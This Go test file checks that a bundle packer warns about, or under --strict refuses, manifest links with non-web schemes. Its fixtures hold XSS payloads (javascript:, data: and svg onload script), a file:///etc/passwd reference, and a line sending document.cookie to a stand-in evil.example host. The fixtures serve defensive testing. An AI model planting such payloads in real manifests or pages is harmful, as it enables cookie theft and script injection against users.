package main

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/mpak-oci/mpak/internal/cli"
)

// hostileLinks are manifest.json address fields a publisher set to script
// or other non-web schemes, each one the schema alone accepts.
var hostileLinks = map[string]any{
	"homepage":         "javascript:alert(document.cookie)",
	"documentation":    "data:text/html,<script>alert(1)</script>",
	"support":          "VBScript:msgbox(1)",
	"icon":             "file:///etc/passwd",
	"screenshots":      []any{"shot.png", "data:image/svg+xml,<svg/onload=alert(1)>"},
	"privacy_policies": []any{"https://example.com/privacy", "JaVaScRiPt:alert(1)"},
}

// hostileDir is the example bundle with hostileLinks and javascript: in
// author.url and repository.url.
func hostileDir(t *testing.T) string {
	t.Helper()
	dir := exampleDir(t, "1.0.0")
	path := filepath.Join(dir, "manifest.json")
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	var m map[string]any
	if err := json.Unmarshal(b, &m); err != nil {
		t.Fatal(err)
	}
	for k, v := range hostileLinks {
		m[k] = v
	}
	m["author"].(map[string]any)["url"] = "javascript:fetch('//evil.example/'+document.cookie)"
	m["repository"].(map[string]any)["url"] = "javascript:alert(1)"
	if b, err = json.Marshal(m); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, b, 0o644); err != nil {
		t.Fatal(err)
	}
	return dir
}

// hostileFields are the JSON paths each warning must name.
var hostileFields = []string{"author.url", "repository.url", "homepage", "documentation", "support", "icon",
	"screenshots[1]", "privacy_policies[1]"}

// TestPackWarnsAboutNonWebLinks: pack packs a manifest whose links are not
// http(s), with one warning per field naming it and the fix; the relative
// screenshot path and the https privacy policy draw none.
func TestPackWarnsAboutNonWebLinks(t *testing.T) {
	t.Parallel()
	e := isolate(t, "localhost:1")
	dir := hostileDir(t)
	file := filepath.Join(t.TempDir(), "hostile.mcpb")
	out := decode[cli.PackOutput](t, e.ok(t, "bundle", "pack", dir, "-o", file, "--json"))
	if len(out.Warnings) != len(hostileFields) {
		t.Errorf("%d warnings, want %d:\n%s", len(out.Warnings), len(hostileFields), strings.Join(out.Warnings, "\n"))
	}
	for _, field := range hostileFields {
		found := false
		for _, w := range out.Warnings {
			found = found || strings.HasPrefix(w, field+": ") && strings.Contains(w, "not http(s)") && strings.Contains(w, "https://")
		}
		if !found {
			t.Errorf("no warning naming %s and the fix in:\n%s", field, strings.Join(out.Warnings, "\n"))
		}
	}
	if _, err := os.Stat(file); err != nil {
		t.Errorf("the bundle was not written: %v", err)
	}

	_, stderr, code := e.mpak(t, "bundle", "pack", dir, "-o", filepath.Join(t.TempDir(), "h.mcpb"))
	if code != 0 || !strings.Contains(stderr, `warning: homepage: "javascript:alert(document.cookie)" is a javascript: address`) {
		t.Errorf("human pack: exit %d, stderr:\n%s", code, stderr)
	}
}

// TestPackStrictRefusesNonWebLinks: with --strict the same manifest is
// refused, every field named, and no file is written; a clean manifest
// still packs.
func TestPackStrictRefusesNonWebLinks(t *testing.T) {
	t.Parallel()
	e := isolate(t, "localhost:1")
	file := filepath.Join(t.TempDir(), "hostile.mcpb")
	_, stderr, code := e.mpak(t, "bundle", "pack", hostileDir(t), "-o", file, "--strict")
	if code == 0 {
		t.Fatalf("--strict packed a manifest with javascript: links")
	}
	for _, field := range hostileFields {
		if !strings.Contains(stderr, field+": ") {
			t.Errorf("--strict refusal does not name %s:\n%s", field, stderr)
		}
	}
	if _, err := os.Stat(file); !os.IsNotExist(err) {
		t.Errorf("--strict wrote %s anyway (%v)", file, err)
	}
	e.ok(t, "bundle", "pack", exampleDir(t, "1.0.0"), "-o", filepath.Join(t.TempDir(), "clean.mcpb"), "--strict")
}

// TestPackStrictRefusesFileWarnings: a warning only packing finds (an icon
// that is not in the bundle) also stops --strict, and the file it wrote is
// removed.
func TestPackStrictRefusesFileWarnings(t *testing.T) {
	t.Parallel()
	e := isolate(t, "localhost:1")
	dir := exampleDir(t, "1.0.0")
	path := filepath.Join(dir, "manifest.json")
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	b = []byte(strings.Replace(string(b), `"license": "MIT",`, `"license": "MIT", "icon": "missing.png",`, 1))
	if err := os.WriteFile(path, b, 0o644); err != nil {
		t.Fatal(err)
	}
	file := filepath.Join(t.TempDir(), "b.mcpb")
	_, stderr, code := e.mpak(t, "bundle", "pack", dir, "-o", file, "--strict")
	if code == 0 || !strings.Contains(stderr, "missing.png") {
		t.Fatalf("--strict with a missing icon: exit %d, stderr:\n%s", code, stderr)
	}
	if _, err := os.Stat(file); !os.IsNotExist(err) {
		t.Errorf("--strict left %s behind (%v)", file, err)
	}
}
